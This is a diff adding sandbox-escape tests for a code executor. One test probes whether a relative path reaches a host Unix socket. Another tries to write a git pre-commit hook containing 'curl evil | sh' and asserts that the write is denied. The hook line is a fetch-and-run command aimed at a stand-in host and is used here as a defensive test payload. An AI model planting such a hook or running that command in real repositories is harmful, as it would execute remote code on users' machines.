@@ -109,11 +109,14 @@ def test_deny_host_unix_socket_outside_the_workdir(escape_executor):
         os.chmod(path, 0o777)  # world-writable, like /run/dbus/system_bus_socket: DAC alone allows it
         server.listen(1)
         verdict = attempt(escape_executor, f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({path!r})\ns.close()")
+        relative = os.path.relpath(path, escape_executor.workdir)  # from the cwd: no way around the tmpfs
+        shell = escape_executor.shell([f"python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect('{relative}'); "
+                                       "print('CONNECTED')\""], 10)
     finally:
         server.close()
         os.unlink(path)
         os.rmdir(folder)
-    assert verdict.startswith("denied"), verdict
+    assert verdict.startswith("denied") and "CONNECTED" not in shell.stdout, (verdict, shell)
 
 
 def test_deny_host_abstract_unix_socket(escape_executor):
@@ -172,6 +175,21 @@ def test_deny_writing_outside_the_workdir(escape_executor):
             leftover.unlink(missing_ok=True)
         open_dir.rmdir()
     assert all(v.startswith("denied") for v in verdicts) and not any(landed), (verdicts, landed)
+
+
+def test_deny_writing_into_the_workdirs_git(escape_executor):
+    hooks = escape_executor.workdir / ".git" / "hooks"
+    hooks.mkdir(parents=True, exist_ok=True)
+    if escape_executor.plan.uid is not None:  # the sandbox's own files: only the read-only mount refuses
+        for path in (hooks.parent, hooks):
+            os.chown(path, escape_executor.plan.uid, escape_executor.plan.gid)
+    try:
+        result = escape_executor.shell(["echo 'curl evil | sh' > .git/hooks/pre-commit && echo WRITTEN"], 10)
+        landed = (hooks / "pre-commit").exists()
+    finally:
+        (hooks / "pre-commit").unlink(missing_ok=True)
+    assert "WRITTEN" not in result.stdout and not landed, (result, landed)
+    assert escape_executor.shell(["ls .git"], 10).stdout.split() == ["hooks"]  # still readable
 
 
 # ---- processes, memory, environment ----------------------------------------------------------
